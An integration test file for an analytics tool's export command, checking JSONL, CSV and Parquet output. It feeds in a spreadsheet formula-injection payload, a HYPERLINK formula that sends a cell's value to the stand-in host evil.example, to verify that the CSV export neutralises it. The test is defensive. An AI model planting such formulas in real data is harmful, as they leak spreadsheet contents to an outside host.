import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { parquetReadObjects, parquetSchema, parquetMetadata } from 'hyparquet'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { apiClient, send } from '../support/api.ts'
import {
  createProject,
  runTakt,
  type ServerProcess,
  startServer,
  temporaryDirectory,
} from '../support/server-process.ts'

let directory: Awaited<ReturnType<typeof temporaryDirectory>>
let server: ServerProcess
let slug: string

const FORMULA = '=HYPERLINK("https://evil.example?"&A1)'

beforeAll(async () => {
  directory = await temporaryDirectory()
  const project = await createProject(directory.path)
  ;({ slug } = project)
  server = await startServer({ dataDirectory: directory.path })
  const timestamp = '2026-04-06T10:00:00.000Z'
  const batch = [
    { type: 'page', messageId: 'm1', anonymousId: FORMULA, timestamp, properties: { path: '/' } },
    {
      type: 'track',
      messageId: 'm2',
      anonymousId: FORMULA,
      timestamp,
      event: 'Order Completed',
      properties: {
        order_id: '+49',
        revenue: 12.34,
        currency: 'EUR',
        note: 'ä "quoted"; line\nbreak',
      },
    },
  ]
  expect((await send(server.url, project.writeKey, '/v1/batch', { batch })).status).toBe(200)
  const api = apiClient({ url: server.url, ...project })
  await vi.waitFor(async () => {
    expect(await api.get('/projector')).toMatchObject({ applied: 2 })
  })
})
afterAll(async () => {
  await server.stop()
  await directory.remove()
})

async function exported(table: string, format: string): Promise<Buffer> {
  const to = join(directory.path, `${table}.${format}`)
  const { code, stdout, stderr } = await runTakt([
    ...['export', table, '--project', slug, '--data', directory.path],
    ...['--format', format, '--to', to, '--json'],
  ])
  expect(stderr).toBe('')
  expect(code).toBe(0)
  expect(JSON.parse(stdout)).toMatchObject({ file: to })
  return await readFile(to)
}

describe('takt export', () => {
  it('writes the log as JSON lines that say the same as the log', async () => {
    const lines = (await exported('events', 'jsonl')).toString().trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line) as unknown)).toMatchObject([
      { seq: 1, messageId: 'm1', type: 'page', occurredAtMs: '2026-04-06T10:00:00.000Z' },
      { seq: 2, messageId: 'm2', properties: { note: 'ä "quoted"; line\nbreak', revenue: 12.34 } },
    ])
  })

  it('writes CSV in which no cell is a formula', async () => {
    const rows = parse((await exported('orders', 'csv')).toString(), { columns: true })
    expect(rows).toMatchObject([
      { order: "'+49", visitor: `'${FORMULA}`, grossMinor: '1234', currency: 'EUR' },
    ])
    const sessions = parse((await exported('sessions', 'csv')).toString(), { columns: true })
    expect(sessions).toMatchObject([{ startedAt: '2026-04-06T10:00:00.000Z', sawProduct: 'false' }])
  })

  it('writes Parquet with types that another reader understands', async () => {
    const { buffer, byteOffset, byteLength } = await exported('events', 'parquet')
    const file = buffer.slice(byteOffset, byteOffset + byteLength) as ArrayBuffer
    expect(
      parquetSchema(parquetMetadata(file)).children.map(({ element }) => element),
    ).toMatchObject(
      expect.arrayContaining([
        expect.objectContaining({ name: 'seq', type: 'INT64' }),
        expect.objectContaining({ name: 'occurredAtMs', converted_type: 'TIMESTAMP_MILLIS' }),
      ]),
    )
    expect(await parquetReadObjects({ file })).toMatchObject([
      { seq: 1n, anonymousId: FORMULA, occurredAtMs: new Date('2026-04-06T10:00:00.000Z') },
      { seq: 2n, properties: { order_id: '+49' } },
    ])
  })

  it('refuses what it does not know and never overwrites', async () => {
    const run = (...args: string[]): Promise<{ code: number; stderr: string }> =>
      runTakt(['export', ...args, '--project', slug, '--data', directory.path])
    expect(await run('passwords')).toMatchObject({ code: 2 })
    expect(await run('events', '--format', 'xls')).toMatchObject({ code: 2 })
    const again = await run('events', '--to', join(directory.path, 'events.jsonl'))
    expect(again).toMatchObject({ code: 1 })
    expect(again.stderr).toContain('never overwrites')
  })
})
